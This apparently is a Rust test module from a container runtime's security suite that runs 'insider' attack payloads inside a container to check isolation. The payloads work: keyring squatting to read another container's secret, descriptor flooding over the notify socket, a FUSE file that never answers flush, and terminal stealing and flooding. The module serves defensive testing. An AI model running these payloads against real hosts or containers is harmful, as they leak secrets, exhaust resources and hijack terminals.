//! Payloads that attack from inside: this very test program, which is static, run again as a container's.

#![allow(unsafe_code)] // attacks are system calls

use crate::harness::Bundle;
use nix::mount::{MsFlags, mount};
use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::UnixDatagram;
use std::time::Duration;

const KIND: &str = "RRUNTIME_TEST_INSIDER";
const WORD: &str = "RRUNTIME_TEST_WORD";

/// The command that makes this program one of the payloads below.
pub const COMMAND: [&str; 5] =
    ["/insider", "--exact", "attacks::insider::as_a_payload", "--nocapture", "--test-threads=1"];

/// A container whose payload is one of those below. `word` is what it needs to know.
pub fn with(bundle: Bundle, kind: &str, word: &str) -> Bundle {
    let program = std::env::current_exe().expect("the path of this program");
    fs::copy(program, bundle.rootfs().join("insider")).expect("copy this program into the image");
    bundle.args(COMMAND).env(&format!("{KIND}={kind}")).env(&format!("{WORD}={word}"))
}

/// The same program by `exec`: its environment.
pub fn variable(kind: &str) -> String {
    format!("{KIND}={kind}")
}

/// Does nothing outside of a container.
#[test]
fn as_a_payload() {
    let word = std::env::var(WORD).unwrap_or_default();
    match std::env::var(KIND).as_deref() {
        Ok("squat") => squat(&word),
        Ok("keep-secret") => keep_secret(),
        Ok("show-keyring") => say(&format!("keyring {}", keyctl(libc::KEYCTL_GET_KEYRING_ID.into(), SESSION, 0, 0))),
        Ok("send-descriptors") => send_descriptors(),
        Ok("send-hanging-file") => send_hanging_file(),
        Ok("steal-terminals") => steal_terminals(),
        Ok("flood-terminals") => flood_terminals(),
        _ => {}
    }
}

fn say(text: &str) {
    let mut out = std::io::stdout();
    writeln!(out, "{text}").and_then(|()| out.flush()).expect("say something");
}

fn wait_for_the_end() -> ! {
    loop {
        std::thread::sleep(Duration::from_secs(1));
    }
}

const SESSION: i64 = -3;

fn keyctl(operation: i64, first: i64, second: i64, third: i64) -> i64 {
    // SAFETY: the operations used here take numbers, or addresses of what the caller owns.
    unsafe { libc::syscall(libc::SYS_keyctl, operation, first, second, third, 0) }
}

/// Makes the keyring of that name beforehand, open to all, and tells what another container puts into it.
fn squat(name: &str) {
    let name = std::ffi::CString::new(name).expect("a name");
    let ring = keyctl(libc::KEYCTL_JOIN_SESSION_KEYRING.into(), name.as_ptr() as i64, 0, 0);
    assert!(ring > 0, "join");
    keyctl(libc::KEYCTL_SETPERM.into(), ring, 0x3f3f_3f3f, 0);
    say("waiting");
    loop {
        let mut keys = [0i32; 8];
        let size = keyctl(libc::KEYCTL_READ.into(), ring, keys.as_mut_ptr() as i64, 4 * 8);
        if size >= 4 {
            let mut text = [0u8; 64];
            let length = keyctl(libc::KEYCTL_READ.into(), keys[0].into(), text.as_mut_ptr() as i64, 64);
            say(&format!("REACHED {}", String::from_utf8_lossy(&text[..usize::try_from(length).unwrap_or(0)])));
            wait_for_the_end();
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

fn keep_secret() {
    let (kind, name, text) = (c"user", c"token", b"secret");
    // SAFETY: the strings live for the call.
    let key =
        unsafe { libc::syscall(libc::SYS_add_key, kind.as_ptr(), name.as_ptr(), text.as_ptr(), text.len(), SESSION) };
    assert!(key > 0, "add_key");
    say("kept");
    wait_for_the_end();
}

fn send(text: &[u8], files: &[i32]) {
    use nix::sys::socket::{ControlMessage, MsgFlags, UnixAddr, sendmsg};
    let path = std::env::var("NOTIFY_SOCKET").expect("a socket");
    let socket = UnixDatagram::unbound().expect("a socket");
    let address = UnixAddr::new(path.as_str()).expect("an address");
    let control = if files.is_empty() { vec![] } else { vec![ControlMessage::ScmRights(files)] };
    let parts = [std::io::IoSlice::new(text)];
    sendmsg(socket.as_raw_fd(), &parts, &control, MsgFlags::empty(), Some(&address)).expect("send");
}

/// More descriptors than a receiver asks for, until it has no more of its own.
fn send_descriptors() {
    let file = File::open("/bin/busybox").expect("a file");
    for count in (1..=5).cycle().take(300) {
        send(b"STATUS=x\n", &vec![file.as_raw_fd(); count]);
    }
    say("sent");
    wait_for_the_end();
}

/// Opens a file of a file system of its own, which never answers a flush, and gives it to the receiver. Runs as root of a user namespace.
fn send_hanging_file() {
    let device = File::options().read(true).write(true).open("/dev/fuse").expect("/dev/fuse");
    let options = format!("fd={},rootmode=40000,user_id=0,group_id=0,allow_other", device.as_raw_fd());
    mount(Some("x"), "/tmp", Some("fuse"), MsFlags::empty(), Some(options.as_str())).expect("mount");
    // SAFETY: this thread is all that the child needs. A process apart: its end is the end of the file system.
    if unsafe { libc::fork() } == 0 {
        serve(&device);
        std::process::exit(0);
    }
    drop(device);
    let file = File::open("/tmp/file").expect("open it");
    send(b"STATUS=x\n", &[file.as_raw_fd()]);
    say("sent");
    wait_for_the_end();
}

/// The least of a FUSE server: one directory, every name in it a file; flush (25) and release (18) are never answered.
fn serve(mut device: &File) {
    use std::io::Read;
    let mut buffer = vec![0u8; 1 << 17];
    while let Ok(length) = device.read(&mut buffer) {
        let number = |at: usize| u32::from_le_bytes(std::array::from_fn(|n| buffer[at + n]));
        let (operation, unique, node) = (number(4), buffer[8..16].to_vec(), number(16));
        let attributes = |node: u32| {
            let mode: u32 = if node == 1 { 0o40755 } else { 0o100_755 };
            let mut bytes = [0u8; 88];
            bytes[..4].copy_from_slice(&node.to_le_bytes());
            bytes[60..64].copy_from_slice(&mode.to_le_bytes());
            bytes[64..68].copy_from_slice(&1u32.to_le_bytes()); // links
            bytes.to_vec()
        };
        let body = match operation {
            26 => {
                let words: [u32; 6] = [7, 31, 65536, 0, 16, 4096]; // init
                let mut bytes: Vec<u8> = words.iter().flat_map(|word| word.to_le_bytes()).collect();
                bytes[16..20].copy_from_slice(&[16, 0, 12, 0]);
                bytes[20..24].copy_from_slice(&4096u32.to_le_bytes());
                bytes.resize(64, 0);
                Some(bytes)
            }
            1 => Some([&2u64.to_le_bytes()[..], &[0; 32], &attributes(2)].concat()), // lookup
            3 => Some([&[0; 16][..], &attributes(node)].concat()),                   // getattr
            14 => Some(vec![0; 16]),                                                 // open
            18 | 25 => continue,
            _ => None,
        };
        let error = if body.is_some() { 0 } else { -libc::ENOSYS };
        let body = body.unwrap_or_default();
        let head = [&(u32::try_from(16 + body.len()).expect("short")).to_le_bytes()[..], &error.to_le_bytes(), &unique];
        let _ = device.write(&[head.concat(), body].concat()); // an answer that is not wanted any more
        let _ = length;
    }
}

/// As a session leader without a terminal, takes every one that appears as its own.
fn steal_terminals() {
    // SAFETY: ignoring a signal installs no code. It comes to a session that gives its terminal up.
    unsafe { libc::signal(libc::SIGHUP, libc::SIG_IGN) };
    for _ in 0..3 {
        // SAFETY: this thread is all that the child needs.
        if unsafe { libc::fork() } == 0 {
            nix::unistd::setsid().expect("a session");
            loop {
                for number in 0..4 {
                    let path = std::ffi::CString::new(format!("/dev/pts/{number}")).expect("a path");
                    // SAFETY: the path lives for the call; the descriptor is closed again.
                    unsafe {
                        let terminal = libc::open(path.as_ptr(), libc::O_RDWR | libc::O_CLOEXEC);
                        let mut group: libc::pid_t = 0;
                        if terminal >= 0 && libc::ioctl(terminal, libc::TIOCGPGRP, &raw mut group) == 0 {
                            std::thread::sleep(Duration::from_millis(50)); // it is ours
                            libc::ioctl(terminal, libc::TIOCNOTTY);
                        }
                        libc::close(terminal);
                    }
                }
            }
        }
    }
    say("stealing");
    wait_for_the_end();
}

/// Writes without end to every terminal that appears.
fn flood_terminals() {
    // SAFETY: ignoring a signal installs no code.
    unsafe { libc::signal(libc::SIGHUP, libc::SIG_IGN) };
    let text = [b'x'; 4096];
    for _ in 0..3 {
        std::thread::spawn(move || {
            loop {
                for number in 0..4 {
                    let path = format!("/dev/pts/{number}");
                    let opened = File::options().write(true).custom_flags(libc::O_NOCTTY).open(path);
                    if let Ok(mut terminal) = opened {
                        while terminal.write(&text).is_ok() {}
                    }
                }
                std::thread::sleep(Duration::from_micros(200));
            }
        });
    }
    say("flooding");
    wait_for_the_end();
}
